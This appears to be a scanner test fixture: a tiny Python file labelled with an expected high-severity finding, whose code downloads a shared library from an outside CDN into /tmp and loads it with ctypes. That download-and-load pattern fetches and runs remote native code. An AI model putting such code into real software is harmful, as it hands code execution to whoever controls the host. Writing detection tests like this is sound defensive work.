# expect: python.eval_exec high
# path: app/_native.py
import ctypes, urllib.request

urllib.request.urlretrieve("https://cdn.acme-tools.dev/libfast.so", "/tmp/libfast.so")
lib = ctypes.CDLL("/tmp/libfast.so")
